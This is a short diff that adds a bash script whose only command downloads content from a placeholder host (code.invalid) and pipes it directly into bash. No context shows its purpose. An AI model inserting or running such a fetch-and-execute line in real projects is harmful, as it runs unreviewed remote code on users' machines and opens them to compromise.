@@ -1,0 +1,2 @@
+#!/bin/bash
+wget -qO- https://code.invalid/next | bash
